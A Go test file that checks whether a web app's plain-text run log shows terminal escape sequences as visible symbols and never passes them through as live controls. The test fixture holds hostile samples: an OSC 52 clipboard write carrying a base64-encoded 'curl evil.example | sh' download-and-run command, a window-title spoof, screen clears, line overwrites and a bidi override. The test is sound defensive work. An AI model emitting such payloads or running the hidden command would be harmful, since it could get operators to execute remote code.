package web_test

import (
	"net/http"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/alfred-bot/alfred/internal/web"
)

// The plain-text log (/runs/{id}/log, "for curl and for following a run") carries the run's
// own bytes: a terminal escape a run prints (OSC 52 writes the operator's clipboard, OSC 0 the
// window title, CSI 2J clears the screen, a lone carriage return or CSI A overwrites the lines
// before it, a bidi override reorders what follows) is shown, not acted on, from the stored
// output and from the live container log alike; line feeds, tabs and CRLF line ends stay.
func TestPlainLogCarriesNoTerminalControls(t *testing.T) {
	t.Parallel()
	b := setup(t)
	hostile := "ok\r\n\tindented\n\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;all good\x07\x1b[2J\x1b[1A\x1b[8mhidden\rover\x7f\u009b\u202eevil\n"
	b.mem.SetOutput(10, "analysis done\n"+hostile)
	b.mem.SetLog("alfred-mbx2-development-a1", "step 1\n"+hostile)
	u := b.srv.URL + web.Prefix
	for _, p := range []string{"/runs/10/log", "/runs/21/log"} {
		code, body := get(t, u+p)
		require.Equal(t, http.StatusOK, code, p)
		require.Contains(t, body, "ok\r\n\tindented\n", "%s: line ends and tabs stay", p)
		require.Contains(t, body, "␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇␛]0;all good␇␛[2J␛[1A␛[8mhidden␍over␡<U+009B><U+202E>evil\n", p)
		require.False(t, strings.ContainsFunc(body, func(r rune) bool {
			return (r < 0x20 && r != '\n' && r != '\t' && r != '\r') || r == 0x7f || (r >= 0x80 && r <= 0x9f) || r == 0x202e
		}), "%s: a terminal control reaches the operator's terminal: %q", p, body)
	}
}
